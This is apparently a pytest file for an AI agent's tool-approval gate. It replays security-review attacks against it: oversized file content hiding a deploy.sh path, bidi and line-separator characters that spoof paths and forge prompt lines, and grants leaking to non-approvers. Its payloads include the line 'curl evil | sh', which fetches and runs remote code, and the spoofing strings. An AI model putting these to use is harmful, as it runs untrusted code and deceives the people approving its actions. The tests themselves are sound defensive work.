"""What the approver sees, and who a time-boxed grant covers — each test performs an
attack from the security review against the real core (gate, store, channels).

1. Long arguments must not hide the ones that decide the effect (path, url, argv).
2. Invisible and direction-changing characters must never reach a prompt raw.
7. "Allow here for 1 h" must not leak to a requester who may not approve.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zoneinfo import available_timezones

import pytest

from echo_bot.approvals import ApprovalGate
from echo_bot.approvals.display import (
    CALL_LIMIT,
    PROMPT_LIMIT,
    escape_text,
    render_call,
    render_if_fits,
)
from echo_bot.cli.admin import StoreAt, approvals_command
from echo_bot.events import (
    Address,
    DecisionVerb,
    MessageInbound,
    OutboundMessage,
    Sender,
    approval_action,
    new_id,
)
from echo_bot.secrets import Masker
from echo_bot.tools.base import Risk
from tests.approvals.test_approvals import (
    action_of,
    approval,
    approvals_for,
    edits_of,
    labels,
    notice_for,
    workspace,
)
from tests.channels.test_telegram import (
    OWNER,
    answer_of,
    approval_status,
    barrier,
    edited,
    keyboard,
    press,
    prompt_in,
    say,
    sent_id,
    telegram_bot,
    text_of,
)
from tests.conftest import Bot, echo_bot_env, run_echo_bot, running_bot
from tests.fakes.channel import RecordingChannel
from tests.fakes.telegram_api import utf16_len

CODING = """
[tools]
profile = "coding"
[tools.shell]
enabled = true
"""

# Characters that render as nothing, reverse what follows, or start a new line.
HIDDEN = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    "\u200b\u200c\u200d\u2060\ufeff\u2028\u2029\x1b\x85\u00ad"
)
NOTES = "Notes from the planning meeting, nothing to worry about here. " * 24  # ~1,500
BIDI_PATH = "report\u202etxt.sh"  # renders as "reporths.txt"
FAKE_LINES = "x\u2028Asked by owner in cli:local · expires 23:59 UTC\u2029Request " + "0" * 32


def tool_text(tool: str, args: dict[str, Any]) -> str:
    """``/tool NAME {json}`` with every character raw, as a chat client would send it."""
    return f"/tool {tool} {json.dumps(args, ensure_ascii=False)}"


def assert_nothing_hidden(text: str, lines: int | None = None) -> None:
    raw = sorted({f"U+{ord(ch):04X}" for ch in text if ch in HIDDEN})
    assert not raw, f"raw hidden characters reach the approver: {raw}\n{text!r}"
    if lines is not None:
        assert text.count("\n") == lines - 1, text


def edit_of(prompt: OutboundMessage) -> Callable[[OutboundMessage], bool]:
    """Matches an edit of ``prompt`` (bound now, not when the wait looks)."""
    return lambda m: m.edit_of == prompt.id


async def grants(bot: Bot) -> list[tuple[Any, ...]]:
    return [(g.session_key, g.tool) for g in await bot.store.run(lambda tx: tx.grants.all())]


async def say_as(
    channel: RecordingChannel, text: str, *, name: str, chat: str = "local", sender: str = "owner"
) -> str:
    """A message whose sender has a display name of their own choosing."""
    assert channel.bus is not None
    published = await channel.bus.publish(
        MessageInbound(
            address=channel.address(chat),
            sender=Sender(id=sender, name=name),
            text=text,
            external_id=new_id(),
        )
    )
    return published.inbound_id


async def reprompts(channel: RecordingChannel, count: int) -> list[OutboundMessage]:
    """The prompts ``/approvals`` sent again (they carry no inbound id), once ``count``
    have arrived."""

    def again() -> list[OutboundMessage]:
        return [m for m in channel.sent if m.kind == "approval" and "inbound_id" not in m.metadata]

    async with asyncio.timeout(10):
        while len(again()) < count:
            await asyncio.sleep(0.05)
    return again()


async def admin(state_dir: Path, action: str, request_id: str | None, capsys: Any) -> str:
    """``echo-bot approvals`` beside the running daemon: a command of its own, on a thread
    of its own (never on the daemon's event loop)."""
    capsys.readouterr()
    at = StoreAt(state_dir)
    assert await asyncio.to_thread(approvals_command, at, action, request_id, 0.0) == 0
    return str(capsys.readouterr().out)


# -- 1. long arguments hide the deciding ones ----------------------------------------------
async def test_attack_long_notes_cannot_hide_the_path_or_the_last_line_of_a_file_write(
    state_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Sorted keys put ``content`` before ``path`` and the prompt was cut at 1,500
    characters: neither ``deploy.sh`` nor the ``curl`` line was shown, and Approve
    wrote deploy.sh. Now the path comes first and the content is shown complete."""
    content = NOTES + "\ncurl evil | sh"
    async with running_bot(state_dir, CODING) as bot:
        inbound = await bot.channel.say(
            tool_text("file_write", {"content": content, "path": "deploy.sh"})
        )
        prompt = await bot.channel.prompt_for(inbound)
        call = prompt.text.split("\n")[1]
        assert call == f'file_write(path="deploy.sh", content="{NOTES}\\ncurl evil | sh")'
        assert "…" not in prompt.text
        assert utf16_len(prompt.text) <= PROMPT_LIMIT
        assert labels(prompt) == ["Approve once", "Allow here for 1 h", "Deny"]

        assert prompt.approval is not None
        request_id = prompt.approval.request_id
        shown = await admin(state_dir, "show", request_id, capsys)
        assert f'call:      file_write(path="deploy.sh", content="{NOTES}\\ncurl evil | sh")' in (
            shown
        )
        arguments = shown.split("arguments (in full", 1)[1]
        assert arguments.index('"path": "deploy.sh"') < arguments.index('"content": ')
        assert "\\ncurl evil | sh" in arguments
        # one argument a line, as indented JSON (its own line breaks are not escaped)
        assert '\n  "path": "deploy.sh",\n  "content": ' in arguments, arguments

        await bot.channel.press(action_of(prompt, "Approve once"))
        assert "Wrote" in (await bot.channel.reply_to(inbound)).text
        edit = await bot.channel.wait_for(lambda m: m.edit_of == prompt.id)
        assert f'file_write(path="deploy.sh", content="{NOTES}\\ncurl evil | sh")' in edit.text


async def test_attack_long_post_body_cannot_hide_the_url(state_dir: Path) -> None:
    config = CODING + '[tools.http]\nallow_domains = ["example.org"]\n'
    body = "a=1&" * 400  # 1,600 characters
    async with running_bot(state_dir, config) as bot:
        inbound = await bot.channel.say(
            tool_text(
                "http_request",
                {"body": body, "method": "POST", "url": "https://example.org/hook"},
            )
        )
        prompt = await bot.channel.prompt_for(inbound)
        assert prompt.text.split("\n")[1] == (
            f'http_request(method="POST", url="https://example.org/hook", body="{body}")'
        )
        await bot.channel.press(action_of(prompt, "Deny"))
        assert "APPROVAL_DENIED" in (await bot.channel.reply_to(inbound)).text


async def test_attack_data_in_a_secret_named_header_is_never_approved_unseen(
    state_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A header named like a credential was shown as ``***`` with Approve buttons, so
    whatever it carried out was approved unseen. Now such a prompt offers Deny only and
    ``echo-bot approvals show`` shows the value."""
    config = CODING + '[tools.http]\nallow_domains = ["example.org"]\n'
    async with running_bot(state_dir, config) as bot:
        inbound = await bot.channel.say(
            tool_text(
                "http_request",
                {"url": "https://example.org/", "headers": {"X-Api-Token": "owner-diary-p1"}},
            )
        )
        prompt = await bot.channel.prompt_for(inbound)
        assert prompt.approval is not None
        request_id = prompt.approval.request_id
        assert labels(prompt) == ["Deny"], prompt.text
        assert f"echo-bot approvals show {request_id}" in prompt.text
        forged = await bot.channel.press(approval_action(DecisionVerb.APPROVE_ONCE, request_id))
        await notice_for(bot.channel, forged)
        assert (await approval(bot, request_id)).status == "pending"
        assert "owner-diary-p1" in await admin(state_dir, "show", request_id, capsys)
        await bot.channel.press(action_of(prompt, "Deny"))
        assert "APPROVAL_DENIED" in (await bot.channel.reply_to(inbound)).text


async def test_attack_write_too_long_for_a_chat_can_only_be_denied_there(
    state_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A write call too long to show completely got "Approve once" and "Allow here for
    1 h" over a cut text. Now the chat offers Deny only — in the prompt and in
    /approvals — and the gate refuses a forged approve from any chat; only
    ``echo-bot approvals approve``, after ``show``, may approve it (or the terminal,
    which shows a call of any length: test_chat_terminal.py)."""
    content = NOTES * 3 + "\ncurl evil | sh"  # about 4,500 characters
    chat = RecordingChannel("telegram")  # a chat, which shows as much as fits a message
    config = CODING + "[telegram]\nallowed_users = [42]\n"
    async with running_bot(state_dir, config, channel=chat) as bot:
        inbound = await chat.say(
            tool_text("file_write", {"content": content, "path": "deploy.sh"}),
            chat="42", sender="42",
        )  # fmt: skip
        prompt = await chat.prompt_for(inbound)
        assert prompt.approval is not None
        request_id = prompt.approval.request_id
        assert labels(prompt) == ["Deny"]
        assert f"echo-bot approvals show {request_id}" in prompt.text
        assert "Notes from" not in prompt.text and "call" not in prompt.metadata
        assert utf16_len(prompt.text) <= PROMPT_LIMIT

        await chat.say("/approvals", chat="42", sender="42")
        (again,) = await reprompts(chat, 1)
        assert labels(again) == ["Deny"] and "Notes from" not in again.text

        for verb, seconds in ((DecisionVerb.APPROVE_ONCE, None), (DecisionVerb.ALLOW_FOR, 3600)):
            forged = await chat.press(
                approval_action(verb, request_id, seconds), chat="42", sender="42"
            )
            notice = await notice_for(chat, forged)
            assert "too long to show in chat" in notice.text
        assert (await approval(bot, request_id)).status == "pending"
        assert not (workspace(bot) / "deploy.sh").exists()
        assert await grants(bot) == []

        shown = await admin(state_dir, "show", request_id, capsys)
        assert f'content="{NOTES * 3}\\ncurl evil | sh"' in shown
        await chat.press(
            approval_action(DecisionVerb.APPROVE_ONCE, request_id), chat="42", sender="42",
            via="admin",
        )  # fmt: skip
        assert "Wrote" in (await chat.reply_to(inbound)).text
        assert (workspace(bot) / "deploy.sh").read_text() == content
        edit = await chat.wait_for(lambda m: m.edit_of == prompt.id)
        assert f"see echo-bot approvals show {request_id}" in edit.text
        assert "Notes from" not in edit.text and "…" not in edit.text


def test_a_call_at_the_limit_fits_a_telegram_message_with_the_longest_header() -> None:
    """The Deny-only rule looks at the call alone, so the lines around it are clipped to
    a budget: a call of CALL_LIMIT units always fits one message with any names."""
    gate = ApprovalGate(
        # Neither the approvers nor the timeout are consulted when rendering.
        live=None,  # type: ignore[arg-type]
        masker=Masker(),
    )
    name = "\U0001f600\u202e" * 200
    tool = "file_write" + "\u202e" * 100
    args = {"path": "x" * (CALL_LIMIT - len(render_call(tool, {"path": ""})))}
    assert utf16_len(render_call(tool, args)) == CALL_LIMIT
    wide = Address(channel="telegram", chat_id="9" * 300, thread_id="\u2028" * 50)
    prompt: OutboundMessage = gate._prompt(
        "f" * 32,
        tool,
        args,
        Risk.WRITE,
        "r" * 500,
        Sender(id="1", name=name),
        wide,
        wide,
        0.0,
        allow_for=False,
        zone=max(available_timezones(), key=len),  # the longest name a chat may choose
    )
    assert labels(prompt) == ["Approve once", "Deny"]
    assert utf16_len(prompt.text) <= PROMPT_LIMIT
    assert_nothing_hidden(prompt.text, lines=4)


# -- 2. invisible and direction-changing characters ----------------------------------------
async def test_attack_bidi_and_line_separators_are_escaped_in_every_view(
    state_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A path ``report\\u202etxt.sh`` rendered as "reporths.txt", and U+2028 inside an
    argv value rendered a fake "Asked by … Request" line. Every view — the prompt, the
    re-prompt, the edited prompt, ``echo-bot approvals list`` and ``show`` — now shows
    them escaped, and the requester's display name too."""
    name = "Mallory\u202e\u200b\u2028Request 1234"
    async with running_bot(state_dir, CODING) as bot:
        write = await say_as(
            bot.channel, tool_text("file_write", {"content": "hi", "path": BIDI_PATH}), name=name
        )
        write_prompt = await bot.channel.prompt_for(write)
        run = await say_as(
            bot.channel, tool_text("shell_exec", {"argv": ["echo", FAKE_LINES]}), name=name
        )
        run_prompt = await bot.channel.prompt_for(run)

        assert 'file_write(path="report\\u202etxt.sh", content="hi")' in write_prompt.text
        assert write_prompt.approval is not None
        assert write_prompt.approval.call == (
            'file_write(path="report\\u202etxt.sh", content="hi")'
        )
        assert "\\u2028Asked by owner" in run_prompt.text
        assert "\\u2029Request 0000" in run_prompt.text
        assert "Asked by Mallory\\u202e\\u200b\\u2028Request 1234 in cli:local" in (run_prompt.text)
        for prompt in (write_prompt, run_prompt):
            assert_nothing_hidden(prompt.text, lines=4)
            assert prompt.approval is not None
            assert prompt.approval.call is not None
            assert_nothing_hidden(prompt.approval.call)

        await bot.channel.say("/approvals")
        again = await reprompts(bot.channel, 2)
        for prompt in again:
            assert_nothing_hidden(prompt.text, lines=4)

        listed = await admin(state_dir, "list", None, capsys)
        assert "asked by Mallory\\u202e\\u200b\\u2028Request 1234" in listed
        assert_nothing_hidden(listed)
        shown = await admin(state_dir, "show", write_prompt.approval.request_id, capsys)
        assert '"path": "report\\u202etxt.sh"' in shown
        assert 'call:      file_write(path="report\\u202etxt.sh", content="hi")' in shown
        assert_nothing_hidden(shown)
        assert run_prompt.approval is not None
        shown = await admin(state_dir, "show", run_prompt.approval.request_id, capsys)
        assert "\\u2028Asked by owner" in shown and "\\u2029Request 0000" in shown
        assert_nothing_hidden(shown)

        await bot.channel.press(action_of(write_prompt, "Deny"))
        await bot.channel.press(action_of(run_prompt, "Deny"))
        for prompt in (write_prompt, run_prompt):
            edit = await bot.channel.wait_for(edit_of(prompt))
            assert edit.text.startswith("❌ Denied")
            assert_nothing_hidden(edit.text, lines=3)


def test_attack_bidi_path_is_escaped_on_the_terminal_prompt(tmp_path: Path) -> None:
    """``echo-bot chat`` printed the call raw: a reversed path on the owner's terminal."""
    config = tmp_path / "echo-bot.toml"
    config.write_text('[tools]\nprofile = "coding"\n')
    state = tmp_path / "st"
    script = tool_text("file_write", {"path": BIDI_PATH, "content": "a\u2028b\u200b"}) + "\nn\n"
    result = run_echo_bot(
        "chat",
        "--config",
        str(config),
        "--state-dir",
        str(state),
        input=script,
        env=echo_bot_env(PYTHONIOENCODING="utf-8"),
    )
    assert result.returncode == 0, result.stderr
    assert (
        'Approve file_write(path="report\\u202etxt.sh", content="a\\u2028b\\u200b")? [y/N]'
        in result.stdout
    )
    assert_nothing_hidden(result.stdout)
    assert not (state / "workspace" / BIDI_PATH).exists()


# -- 1 and 2 end to end through Telegram ---------------------------------------------------
async def test_attack_telegram_write_too_long_offers_deny_only_and_forged_approve_writes_nothing(
    state_dir: Path,
) -> None:
    content = NOTES * 3 + "\ncurl evil | sh"
    async with telegram_bot(state_dir) as (bot, api):
        say(api, tool_text("file_write", {"content": content, "path": "deploy.sh"}))
        prompt = await prompt_in(api)
        assert [label for label, _data in keyboard(prompt)] == ["Deny"]
        data = keyboard(prompt)[0][1]
        request_id = data.split(":")[1]
        text = text_of(prompt)
        assert f"echo-bot approvals show {request_id}" in text
        assert "Notes from" not in text and utf16_len(text) <= PROMPT_LIMIT

        for forged in (
            approval_action(DecisionVerb.APPROVE_ONCE, request_id),
            approval_action(DecisionVerb.ALLOW_FOR, request_id, 3600),
        ):
            answer = await answer_of(api, press(api, forged, sent_id(prompt)))
            assert "too long to show in chat" in answer, answer
        await barrier(api)
        assert await approval_status(bot, data) == "pending"
        assert not (bot.state_dir / "workspace" / "deploy.sh").exists()

        await answer_of(api, press(api, data, sent_id(prompt)))
        state = await edited(api, sent_id(prompt), "❌ Denied")
        assert f"see echo-bot approvals show {request_id}" in state["plain_text"]
        assert state["reply_markup"] is None


async def test_attack_telegram_prompt_shows_the_path_first_and_escapes_hidden_characters(
    state_dir: Path,
) -> None:
    content = NOTES + "\ncurl evil | sh"
    async with telegram_bot(state_dir) as (bot, api):
        say(
            api,
            tool_text("file_write", {"content": content, "path": BIDI_PATH}),
            first_name="Owner\u2028Request 0000\u202e",
        )
        prompt = await prompt_in(api)
        text = text_of(prompt)
        lines = text.split("\n")
        assert lines[1] == (
            f'file_write(path="report\\u202etxt.sh", content="{NOTES}\\ncurl evil | sh")'
        )
        assert lines[2].startswith(f"Asked by Owner\\u2028Request 0000\\u202e in telegram:{OWNER}")
        assert_nothing_hidden(text, lines=4)
        assert [label for label, _data in keyboard(prompt)] == [
            "Approve once",
            "Allow here for 1 h",
            "Deny",
        ]
        approve = next(d for _label, d in keyboard(prompt) if d.startswith("approve_once:"))
        await answer_of(api, press(api, approve, sent_id(prompt)))
        state = await edited(api, sent_id(prompt), "✅ Approved")
        assert lines[1] in state["plain_text"]
        await barrier(api)
        assert (bot.state_dir / "workspace" / BIDI_PATH).read_text() == content


# -- 7. "Allow for a time" leaks -----------------------------------------------------------
ROUTED = """
[tools]
profile = "coding"
[telegram]
allowed_users = [1, 2]
approvers = [1]
[approvals]
default_chat = "telegram:1"
"""

GROUP = "-100"
IN_GROUP = ROUTED.replace('default_chat = "telegram:1"', f'default_chat = "telegram:{GROUP}"')


def write(path: str, content: str = "x") -> str:
    return tool_text("file_write", {"path": path, "content": content})


async def test_attack_allow_for_forged_on_a_routed_prompt_is_refused_and_grants_nothing(
    state_dir: Path,
) -> None:
    """A non-approver's write went to the owner's chat; the owner pressed "Allow here
    for 1 h" and the grant went to the requester's session, so their later writes ran
    unasked. Now a routed prompt offers no such button and the gate refuses the verb."""
    channel = RecordingChannel("telegram")
    async with running_bot(state_dir, ROUTED, channel=channel) as bot:
        first = await channel.say(write("n1.txt"), chat="2", sender="2")
        prompt = await channel.prompt_for(first)
        assert prompt.to == Address(channel="telegram", chat_id="1")
        assert labels(prompt) == ["Approve once", "Deny"]
        assert prompt.approval is not None
        request_id = prompt.approval.request_id

        forged = approval_action(DecisionVerb.ALLOW_FOR, request_id, 3600)
        press_id = await channel.press(forged, chat="1", sender="1")
        notice = await notice_for(channel, press_id)
        assert notice.text.startswith("⚠️") and "requester's own chat" in notice.text
        assert (await approval(bot, request_id)).status == "pending"
        assert await grants(bot) == []
        assert edits_of(channel, prompt) == []

        await channel.press(action_of(prompt, "Approve once"), chat="1", sender="1")
        assert "Wrote" in (await channel.reply_to(first)).text

        # The requester's next write still waits for the owner.
        second = await channel.say(write("n2.txt"), chat="2", sender="2")
        assert (await channel.prompt_for(second)).to == Address(channel="telegram", chat_id="1")
        assert not (workspace(bot) / "n2.txt").exists()
        # In the owner's own chat the time verb is still offered.
        own = await channel.say(write("o1.txt"), chat="1", sender="1")
        assert "Allow here for 1 h" in labels(await channel.prompt_for(own))


async def test_attack_group_grant_never_lets_a_non_approver_run_unasked(state_dir: Path) -> None:
    """In a group the prompt for a non-approver's write lands in the same chat (the
    group is the approvals chat); approver A's "Allow here" must neither be offered
    for it nor, when A allows A's own writes, cover B's writes in that group."""
    channel = RecordingChannel("telegram")
    async with running_bot(state_dir, IN_GROUP, channel=channel) as bot:
        b_first = await channel.say(write("b1.txt"), chat=GROUP, sender="2")
        b_prompt = await channel.prompt_for(b_first)
        assert b_prompt.to == channel.address(GROUP)
        assert labels(b_prompt) == ["Approve once", "Deny"]
        assert b_prompt.approval is not None
        forged = approval_action(DecisionVerb.ALLOW_FOR, b_prompt.approval.request_id, 3600)
        notice = await notice_for(channel, await channel.press(forged, chat=GROUP, sender="1"))
        assert "requester's own chat" in notice.text
        assert await grants(bot) == []
        await channel.press(action_of(b_prompt, "Deny"), chat=GROUP, sender="1")
        await channel.reply_to(b_first)

        a_first = await channel.say(write("a1.txt"), chat=GROUP, sender="1")
        a_prompt = await channel.prompt_for(a_first)
        await channel.press(action_of(a_prompt, "Allow here for 1 h"), chat=GROUP, sender="1")
        assert "Wrote" in (await channel.reply_to(a_first)).text
        assert await grants(bot) == [(f"telegram:{GROUP}", "file_write")]

        a_second = await channel.say(write("a2.txt"), chat=GROUP, sender="1")
        assert "Wrote" in (await channel.reply_to(a_second)).text
        assert approvals_for(channel, a_second) == []

        b_second = await channel.say(write("b2.txt"), chat=GROUP, sender="2")
        assert labels(await channel.prompt_for(b_second)) == ["Approve once", "Deny"]
        assert not (workspace(bot) / "b2.txt").exists()


def test_escape_text_keeps_ordinary_text_and_marks_backslashes() -> None:
    assert escape_text("Zoë 東京 ✅ a-b_c.txt") == "Zoë 東京 ✅ a-b_c.txt"
    assert escape_text("a\\u202eb") == "a\\\\u202eb"  # a literal backslash-u stays distinct
    assert escape_text("a\u202eb") == "a\\u202eb"


def test_a_megabyte_of_content_is_judged_too_long_without_rendering_it() -> None:
    content = "a\u202e" * 500_000
    assert render_if_fits("file_write", {"path": "x", "content": content}) is None
    assert render_if_fits("file_write", {"path": "x", "content": "a\u202e"}) == (
        'file_write(path="x", content="a\\u202e")'
    )


def test_attack_stacked_combining_marks_cannot_draw_over_the_prompt() -> None:
    """Dozens of combining marks on one letter ("Zalgo") draw over the lines around
    them in a chat client; past two on one base character they are shown escaped."""
    zalgo = "n" + "\u0301\u0302\u0303" * 20 + "otes"
    shown = render_call("file_write", {"path": "deploy.sh", "content": zalgo})
    raw_marks = [ch for ch in shown if ch in "\u0301\u0302\u0303"]
    assert len(raw_marks) == 2, shown
    assert "\\u0303\\u0301\\u0302" in shown and shown.endswith('otes")')
    assert escape_text("Nguye\u0302\u0303n") == "Nguye\u0302\u0303n"  # two stay as they are
